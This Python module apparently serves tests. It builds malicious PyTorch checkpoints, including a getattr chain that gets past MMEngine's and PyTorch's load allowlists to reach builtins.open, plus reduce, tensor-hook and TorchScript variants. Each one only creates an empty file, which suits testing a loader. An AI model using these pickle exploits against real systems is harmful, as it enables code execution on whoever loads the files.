"""Checkpoints that run code where they are read carelessly; the code makes an empty file."""

import io
import os
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer
from torch._tensor import _rebuild_from_type_v2

ATTACKS = ("call", "names", "names, old format", "hooks", "torchscript")


class Call:
    """Pickled as a function and its arguments: read carelessly it is what the call returns."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


class Program(torch.nn.Module):
    """TorchScript, which PyTorch reads with its methods."""

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """Anything."""
        return x


def through_allowed_names(trace: Path) -> Call:
    """``open(trace, 'w')``, of names that MMEngine's and PyTorch's own lists allow, no others.

    ``getattr`` leads from a method of ``HistoryBuffer`` to Python's built-in functions, and
    ``_rebuild_from_type_v2`` calls what it is given.
    """
    method = Call(getattr, HistoryBuffer, "__init__")
    names = Call(getattr, method, "__globals__")
    get = Call(getattr, names, "get")
    kind_of_dict, kind_of_function = (Call(getattr, it, "__class__") for it in (names, get))
    builtins = Call(_rebuild_from_type_v2, get, kind_of_dict, ("__builtins__",), {})
    get_builtin = Call(getattr, builtins, "get")
    opener = Call(_rebuild_from_type_v2, get_builtin, kind_of_function, ("open",), {})
    return Call(_rebuild_from_type_v2, opener, torch.Tensor, (str(trace), "w"), {})


def write_attack(kind: str, path: Path, trace: Path, content: dict) -> Path:
    """Write a checkpoint that makes a file where it is read carelessly.

    Args:
        kind: One of ``ATTACKS``.
        path: The checkpoint.
        trace: What it makes.
        content: What else the checkpoint holds, such as good weights.

    Returns:
        The checkpoint.
    """
    if kind == "torchscript":
        torch.jit.script(Program()).save(str(path))
        return path
    evil = {
        "call": Call(os.mknod, str(trace)),
        "names": through_allowed_names(trace),
        "names, old format": through_allowed_names(trace),
        "hooks": Call(
            torch._utils._rebuild_tensor_v2,
            torch.zeros(1).storage(),
            *(0, (1,), (1,), True),
            {"hook": Call(getattr, HistoryBuffer, "mean")},
        ),
    }[kind]
    buffer = io.BytesIO()
    new = kind != "names, old format"
    torch.save({**content, "evil": evil}, buffer, _use_new_zipfile_serialization=new)
    path.write_bytes(buffer.getvalue())
    return path
